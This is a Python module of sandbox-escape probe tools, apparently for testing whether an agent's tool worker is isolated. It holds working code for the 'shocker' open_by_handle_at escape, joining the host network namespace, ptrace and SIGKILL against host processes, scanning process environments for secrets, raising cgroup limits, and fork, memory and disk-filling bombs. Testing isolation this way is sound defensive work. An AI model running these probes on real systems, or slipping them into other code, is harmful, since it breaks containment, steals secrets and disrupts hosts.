"""Hostile tools that try to get out: network, files, secrets, signals, privileges."""

from __future__ import annotations

import ctypes
import os
import signal
import socket

from tools import tool


def _try(fn: object) -> str:
    try:
        result = fn()  # type: ignore[operator]
    except OSError as exc:
        return f"denied: {type(exc).__name__}: {exc.strerror or exc}"
    return f"ALLOWED: {str(result)[:200]}"


@tool
def attack_connect(host: str, port: int) -> str:
    """Open a TCP connection.

    Args:
        host: Address.
        port: Port.
    """
    return _try(lambda: socket.create_connection((host, port), timeout=3).close())


@tool
def attack_resolve(name: str) -> str:
    """Resolve a host name.

    Args:
        name: Host name.
    """
    return _try(lambda: socket.getaddrinfo(name, 80))


@tool
def attack_read(path: str) -> str:
    """Read a file.

    Args:
        path: Absolute path.
    """

    def read() -> bytes:
        with open(path, "rb") as f:
            return f.read(4096)

    return _try(read)


@tool
def attack_write(path: str) -> str:
    """Create or overwrite a file.

    Args:
        path: Absolute path.
    """

    def write() -> str:
        with open(path, "w") as f:
            f.write("owned")
        return path

    return _try(write)


@tool
def attack_environ_scan(secret: str) -> str:
    """Look for a secret in every process's environment that /proc shows.

    Args:
        secret: The value to look for.
    """
    found, readable = [], 0
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/environ", "rb") as f:
                data = f.read()
        except OSError:
            continue
        readable += 1
        if secret.encode() in data:
            found.append(entry)
    return f"found in {found}" if found else f"not found ({readable} environments readable)"


@tool
def attack_signal(pid: int) -> str:
    """Send SIGKILL to a process by its pid, directly and through a pidfd.

    Args:
        pid: The target (a host pid).
    """
    direct = _try(lambda: os.kill(pid, signal.SIGKILL))
    via_pidfd = _try(lambda: signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGKILL))
    return f"kill: {direct}; pidfd: {via_pidfd}"


@tool
def attack_ptrace(pid: int) -> str:
    """PTRACE_ATTACH to a process.

    Args:
        pid: The target (a host pid).
    """
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
        return f"denied: {os.strerror(ctypes.get_errno())}"
    return "ALLOWED"


@tool
def attack_host_netns() -> str:
    """Join the host's network namespace through /proc/1 and connect out."""
    libc = ctypes.CDLL(None, use_errno=True)

    def join() -> str:
        fd = os.open("/proc/1/ns/net", os.O_RDONLY)
        if libc.setns(fd, 0x40000000) != 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        return "joined"

    return _try(join)


@tool
def attack_raise_pids_limit() -> str:
    """Raise this worker's own pids cgroup limit."""
    with open("/proc/self/cgroup") as f:
        line = next((x for x in f if ":pids:" in x), "")
    path = "/sys/fs/cgroup/pids" + line.strip().split(":", 2)[-1] + "/pids.max"

    def write() -> str:
        with open(path, "w") as f:
            f.write("max")
        return path

    return _try(write)


@tool
def attack_fill_disk() -> str:
    """Write 1 MiB files into the working directory until something stops it."""
    block = b"x" * (1 << 20)
    written = 0
    try:
        for i in range(100_000):
            with open(f"fill-{i}.bin", "wb") as f:
                f.write(block)
            written += len(block)
    except OSError as exc:
        return f"stopped after {written >> 20} MiB: {exc.strerror}"
    return f"ALLOWED: wrote {written >> 20} MiB"


@tool
def attack_list_processes() -> str:
    """Count the processes /proc shows."""
    return str(sum(entry.isdigit() for entry in os.listdir("/proc")))


@tool
def attack_memfd_bomb() -> str:
    """Fill anonymous memory files with write(), which RLIMIT_AS does not count."""
    block = b"x" * (1 << 20)
    fds, total = [], 0
    try:
        while total < (4 << 30):
            fd = os.memfd_create("bomb")
            fds.append(fd)
            for _ in range(8):
                os.write(fd, block)
                total += len(block)
    except OSError as exc:
        return f"stopped after {total >> 20} MiB: {exc.strerror}"
    return f"ALLOWED: {total >> 20} MiB"


@tool
def attack_socket(family: int, kind: int) -> str:
    """Create a socket of any family (internet, packet, vsock, ...).

    Args:
        family: Address family number.
        kind: Socket type number.
    """
    return _try(lambda: socket.socket(family, kind).close())


@tool
def attack_open_by_handle(path: str) -> str:
    """Open a file by its inode handle instead of its path (the "shocker" escape).

    Args:
        path: File to open.
    """
    import struct

    libc = ctypes.CDLL(None, use_errno=True)
    handle = ctypes.create_string_buffer(8 + 128)
    struct.pack_into("I", handle, 0, 128)
    mount_id = ctypes.c_int()

    def steal() -> bytes:
        if libc.name_to_handle_at(-100, path.encode(), handle, ctypes.byref(mount_id), 0):
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        mount_fd = os.open(os.path.dirname(path) or "/", os.O_PATH)
        fd = libc.open_by_handle_at(mount_fd, handle, os.O_RDONLY)
        if fd < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        return os.read(fd, 100)

    return _try(steal)


@tool
def attack_whoami() -> dict[str, int]:
    """The worker's uid, gid, effective and bounding capabilities."""
    with open("/proc/self/status") as f:
        status = dict(line.split(":", 1) for line in f if ":" in line)
    return {
        "uid": os.getuid(),
        "gid": os.getgid(),
        "caps": int(status["CapEff"], 16),
        "bounding": int(status["CapBnd"], 16),
    }


@tool
def attack_fork_bomb() -> str:
    """Fork until refused; report how many children were made."""
    children = 0
    try:
        while children < 2000:
            pid = os.fork()
            if pid == 0:
                signal.pause()
                os._exit(0)
            children += 1
    except OSError as exc:
        return f"stopped after {children} children: {exc.strerror}"
    return f"ALLOWED: {children} children"
